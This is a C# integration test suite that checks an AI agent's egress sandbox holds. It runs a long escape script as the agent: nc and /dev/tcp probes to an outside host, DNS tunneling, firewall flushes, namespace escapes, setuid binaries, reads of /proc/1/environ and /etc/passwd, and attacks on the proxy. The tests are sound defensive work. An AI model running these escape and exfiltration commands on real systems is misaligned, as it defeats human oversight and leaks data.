using Discobot.Integration.Fixtures;

namespace Discobot.Integration.Egress;

/// <summary>What an agent whose egress is enforced can send out past the rules, whatever it tries: nothing.</summary>
[Collection("egress")]
public sealed class EscapeTests(EgressSessions sessions)
{
    public static TheoryData<Distro> Distros => [Distro.Debian, Distro.Alpine];

    [Theory, MemberData(nameof(Distros))]
    public async Task No_packet_leaves_for_what_no_rule_allows(Distro distro)
    {
        var session = await sessions.OfAsync(distro);
        var before = (await sessions.Outside.PacketsFromAsync(session)).Count;
        var said = await EgressSessions.AsAgentAsync(session, Escapes(sessions.Outside.Address));
        Assert.Empty((await sessions.Outside.PacketsFromAsync(session)).Skip(before));
        Assert.DoesNotContain("LEAK", said, StringComparison.Ordinal);
        // It tried all of it: the last thing that it does is to say so.
        Assert.EndsWith("tried\n", said, StringComparison.Ordinal);
    }

    [Theory, MemberData(nameof(Distros))]
    public async Task Set_user_id_programs_give_the_agent_nothing(Distro distro)
    {
        var session = await sessions.OfAsync(distro);
        // Of root and of the proxy's user, who may leave.
        await session.ShellAsync("""
            for user in root discobot-proxy; do
                mkdir -p /as/$user
                for program in grep nc sh; do
                    for place in /usr/bin /bin; do [ ! -x $place/$program ] || cp -L $place/$program /as/$user/$program; done
                    [ ! -e /as/$user/$program ] || { chown $user /as/$user/$program; chmod 4755 /as/$user/$program; }
                done
            done
            """);
        string Try(string user) => $"/as/{user}/grep ^Uid: /proc/self/status; {{ /as/{user}/nc -w 1 {Outside.Elsewhere} 22; echo probe | /as/{user}/nc -u -w 1 {Outside.Elsewhere} 22; }} </dev/null >/dev/null 2>&1; /as/{user}/sh -c 'grep ^Uid: /proc/self/status; echo > /dev/udp/{Outside.Elsewhere}/22' 2>/dev/null;";
        var before = (await sessions.Outside.PacketsFromAsync(session)).Count;
        var said = await EgressSessions.AsAgentAsync(session, Try("root") + Try("discobot-proxy") + "true");
        Assert.Equal(4, said.Split("Uid:\t1000\t1000\t1000\t1000\n").Length - 1);
        Assert.Empty((await sessions.Outside.PacketsFromAsync(session)).Skip(before));
        // For somebody else they would do what they say; BusyBox gives it up by itself.
        if (distro.Name == Distro.Debian.Name)
            Assert.Contains("Uid:\t1000\t0\t", await session.ExecAsync("discobot", "exec", "--user", "discobot", "--", "/as/root/grep", "^Uid:", "/proc/self/status"), StringComparison.Ordinal);
    }

    [Theory, MemberData(nameof(Distros))]
    public async Task Names_that_no_rule_allows_carry_nothing_out(Distro distro)
    {
        var session = await sessions.OfAsync(distro);
        var said = await EgressSessions.AsAgentAsync(session, $$"""
            i=0; while [ $i -lt 200 ]; do
                timeout 2 nslookup data-$i.tunnel.test >/dev/null 2>&1 || timeout 2 getent hosts data-$i.tunnel.test 2>/dev/null || i=$i
                i=$((i + 1))
            done
            { nslookup data.tunnel.test {{sessions.Outside.Address}}; nslookup -type=txt data.tunnel.test; nslookup data.tunnel.test 127.0.0.11; } >/dev/null 2>&1
            echo "asked $i"
            """);
        Assert.EndsWith("asked 200\n", said, StringComparison.Ordinal);
        Assert.DoesNotContain(await sessions.Outside.NamesAsync(), name => name.Contains("tunnel", StringComparison.Ordinal));
    }

    [Fact]
    public async Task An_attempt_is_counted_and_told_with_the_program_that_made_it()
    {
        var session = await sessions.OfAsync(Distro.Debian);
        await EgressSessions.AsAgentAsync(session, $"curl -sS -m 5 http://{Outside.Elsewhere}:8081/ >/dev/null; python3 -c 'import socket; socket.create_connection((\"{Outside.Elsewhere}\", 2222)).recv(1)'");
        var output = await session.SeeAsync($"target={Outside.Elsewhere}:2222 entry=transparent");
        var lines = output.Split('\n').Where(line => line.Contains("bypass", StringComparison.Ordinal) && (line.Contains(":2222 ", StringComparison.Ordinal) || line.Contains(":8081 ", StringComparison.Ordinal))).ToList();
        Assert.Contains(lines, line => line.Contains(":8081 entry=transparent program=/usr/bin/curl process=", StringComparison.Ordinal) && line.Contains(" user=1000 ", StringComparison.Ordinal));
        Assert.Contains(lines, line => line.Contains(":2222 entry=transparent program=/usr/bin/python3", StringComparison.Ordinal));
        var metrics = await session.ShellAsync("curl -sS --noproxy '*' http://127.0.0.1:17081/metrics | grep ^discobot_bypass_refused_total");
        Assert.True(int.Parse(metrics.Split(' ')[1], System.Globalization.CultureInfo.InvariantCulture) >= 2, metrics);
    }

    [Fact]
    public async Task Ten_thousand_names_and_a_silent_name_server_leave_the_resolver_as_quick_as_it_was()
    {
        await using var session = await sessions.StartAsync(Distro.Debian, EgressSessions.Enforced);
        var said = await EgressSessions.AsAgentAsync(session, """
            cat > /tmp/names.py <<'END'
            import socket, struct, time, threading
            def query(number, name):
                return struct.pack("!HHHHHH", number, 256, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0\0\1\0\1"
            # Fifty that nobody will ever answer, and ten thousand that need not be asked for.
            silent = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); silent.connect(("127.0.0.11", 53))
            for number in range(50): silent.send(query(number, "silent.test"))
            for number in range(50): silent.send(query(number, "x%d.silent.test" % number))
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect(("127.0.0.11", 53))
            begun = time.time()
            for number in range(10000):
                s.send(query(number, "n%d.tunnel.test" % number))
                answer = s.recv(512)
                assert answer[3] & 15 == 3, answer
            print("answered", 10000 / (time.time() - begun) > 500)
            begun = time.time()
            print(socket.gethostbyname("allowed.test") != "", time.time() - begun < 1)
            END
            python3 /tmp/names.py
            """);
        Assert.Equal("answered True\nTrue True\n", said);
        Assert.DoesNotContain(await sessions.Outside.NamesAsync(), name => name.Contains("tunnel", StringComparison.Ordinal));
    }

    [Fact]
    public async Task The_agent_itself_has_lost_what_could_undo_the_rules()
    {
        var session = await sessions.OfAsync(Distro.Debian);
        var said = await session.ShellAsync("cat /proc/$(pgrep -u discobot sleep | head -1)/status");
        Assert.Contains("NoNewPrivs:\t1\n", said, StringComparison.Ordinal);
        // capabilities(7): NET_ADMIN, NET_RAW, SYS_MODULE, SYS_PTRACE, SYS_ADMIN, PERFMON, BPF.
        var bounding = Convert.ToUInt64(said.Split("CapBnd:\t")[1].Split('\n')[0], 16);
        Assert.All((int[])[12, 13, 16, 19, 21, 38, 39], number => Assert.Equal(0UL, bounding >> number & 1));
    }

    // Each is something that a program under somebody else's control could try. What an image has no program for, it cannot try that way.
    private static string Escapes(string outside) => $$"""
        exec 2>/dev/null
        o={{outside}}; e={{Outside.Elsewhere}}; e6={{Outside.Elsewhere6}}
        # Whatever succeeds that must not.
        t() { timeout 3 "$@" >/dev/null && echo "LEAK $*"; }
        tcp() { timeout 3 nc -w 1 $1 $2 </dev/null; timeout 3 bash -c "echo probe > /dev/tcp/$1/$2"; }
        udp() { echo probe | timeout 3 nc -u -w 1 $1 $2; timeout 3 bash -c "echo probe > /dev/udp/$1/$2"; }
        for a in $o $e $e6; do
            for p in 22 25 53 80 123 443 853 5432 8080 51820; do tcp $a $p & udp $a $p & done >/dev/null
            wait
            { ping -c 1 -W 1 $a & ping6 -c 1 -W 1 $a & traceroute -w 1 -m 2 $a & wait; } >/dev/null
        done
        for a in $o $e "[$e6]"; do
            web() {
                wget -T 3 -O - http://$a/ & wget -T 3 -O - --header 'Host: forbidden.test' http://$a/ &
                curl -m 3 -A '' http://$a/ -H 'Host: forbidden.test' & curl -m 3 http://$a/ -H 'Host:' & curl -m 3 -0 http://$a:8080/ &
                curl -m 3 -k https://$a/ & curl -m 3 -k https://$a:853/dns-query & curl -m 3 --http2-prior-knowledge http://$a/ &
                curl -m 3 -k --resolve "forbidden.test:443:$a" https://forbidden.test/ & curl -m 3 -k --connect-to "::$a:443" https://forbidden.test/ &
                # The name of one that is allowed, for a server that is not.
                curl -m 3 -k --resolve "allowed.test:443:$a" -H 'Host: forbidden.test' https://allowed.test/ &
                curl -m 3 ftp://$a/ & curl -m 3 telnet://$a:22 & curl -m 3 tftp://$a/x &
                git ls-remote git://$a/x & git ls-remote ssh://$a/x & ssh -o ConnectTimeout=2 -o StrictHostKeyChecking=no $a true &
                wait
            }
            web | grep -E 'hello|greetings' && echo "LEAK web $a"
        done
        t unshare -Urn wget -T 1 -O - http://$o/; t unshare -Ur ip route add 203.0.113.7 via $o; t unshare -Ur nft flush ruleset; t unshare -Ur iptables -F
        t nsenter -t 1 -n wget -T 1 -O - http://$o/; t nsenter -t 1 -a true; t nsenter --net=/proc/1/ns/net true; t ip link set lo down; t ip link add v0 type veth; t ip route add 203.0.113.7 via $o
        t nft flush ruleset; t nft delete table inet discobot; t iptables -F; t kill -KILL 1; t chroot / true; t mount -t tmpfs none /mnt; t sysctl -w net.ipv4.ip_forward=0
        t cat /proc/1/root/etc/passwd; t cat /proc/1/environ; t ls /proc/1/fd/; t ls /proc/1/ns/net/; t head -c 1 /proc/1/mem; t head -c 1 /dev/mem; t sudo -n true; t su -c true root; t doas true; t newgrp root
        for p in $(pgrep -u discobot-proxy || pidof proxy); do t kill -KILL $p; t kill -STOP $p; t cat /proc/$p/environ; t ls /proc/$p/fd/; t head -c 1 /proc/$p/mem; t gdb -p $p -batch; done
        t touch /etc/resolv.conf; t touch /etc/discobot/policy.yaml; t touch /etc/hosts
        timeout 60 python3 - <<'END'
        import ctypes, os, socket
        outside, elsewhere, elsewhere6 = "{{outside}}", "{{Outside.Elsewhere}}", "{{Outside.Elsewhere6}}"
        def attempt(kind, protocol, family=socket.AF_INET, to=(elsewhere, 9), prepare=lambda s: None):
            try:
                s = socket.socket(family, kind, protocol); s.settimeout(1); prepare(s); s.sendto(b"\x08\0\xf7\xff\0\0\0\0", to)
            except (OSError, OverflowError): pass
        for to in ((outside, 9), (elsewhere, 9)):
            for protocol in (1, 2, 6, 17, 41, 47, 50, 132, 255): attempt(socket.SOCK_RAW, protocol, to=to)
            attempt(socket.SOCK_DGRAM, 1, to=to)
            for kind, protocol in ((5, 132), (1, 132), (2, 136), (6, 33), (1, 262)): attempt(kind, protocol, to=to)
            attempt(2, 17, socket.AF_INET6, ("::ffff:" + to[0], 9)); attempt(1, 6, socket.AF_INET6, ("::ffff:" + to[0], 9))
            # A source that is not the uplink's, an interface by name, a mark, a TTL, a fast open, a broadcast.
            for option in ((socket.SOL_SOCKET, 25, b"eth0\0"), (socket.SOL_SOCKET, 36, 1), (socket.SOL_IP, 2, 1), (socket.SOL_SOCKET, 6, 1), (socket.SOL_IP, 24, 1), (socket.SOL_IP, 19, 1)):
                for kind in (1, 2): attempt(kind, 0, to=to, prepare=lambda s: s.setsockopt(*option))
            attempt(1, 6, to=to, prepare=lambda s: s.bind(("127.0.0.1", 0))); attempt(2, 17, to=to, prepare=lambda s: s.bind(("127.0.0.1", 0)))
            try:
                s = socket.socket(); s.settimeout(1); s.sendto(b"probe", socket.MSG_FASTOPEN, to)
            except OSError: pass
        for address in ("255.255.255.255", "224.0.0.251", "239.255.255.250", ".".join(outside.split(".")[:3]) + ".255"):
            attempt(2, 17, to=(address, 1900), prepare=lambda s: s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1))
        for address in (elsewhere6, "ff02::1%eth0", "ff02::fb%eth0", "fe80::1%eth0"):
            for kind, protocol in ((2, 17), (2, 58), (1, 6), (3, 58)):
                try: attempt(kind, protocol, socket.AF_INET6, socket.getaddrinfo(address, 443)[0][4])
                except OSError: pass
        for family, kind in ((17, 3), (17, 2), (15, 3), (38, 5), (40, 1), (30, 2), (44, 3)):
            try:
                s = socket.socket(family, kind, socket.htons(3) if family == 17 else 0)
                if family == 17: print("LEAK packet socket")
            except OSError: pass
        # What others listen at without a file.
        for line in open("/proc/net/unix"):
            if "@" in line:
                try:
                    s = socket.socket(socket.AF_UNIX); s.settimeout(1); s.connect("\0" + line.split("@")[1].strip()); s.send(b"GET http://%b/ HTTP/1.0\r\n\r\n" % outside.encode()); s.recv(9)
                except OSError: pass
        libc = ctypes.CDLL(None, use_errno=True)
        for pid in ["1"] + [p for p in os.listdir("/proc") if p.isdigit() and os.stat("/proc/" + p).st_uid not in (os.getuid(),)]:
            if libc.ptrace(16, int(pid), 0, 0) == 0: print("LEAK ptrace", pid)
            if libc.syscall(434, int(pid), 0) >= 0 and libc.syscall(438, libc.syscall(434, int(pid), 0), 3, 0) >= 0: print("LEAK descriptor", pid)
        if libc.setns(os.open("/proc/self/ns/net", 0), 0x40000000) == 0: print("LEAK setns")
        if libc.unshare(0x10000000 | 0x40000000) == 0:
            attempt(2, 17); attempt(3, 255)
        END
        echo tried
        """;
}
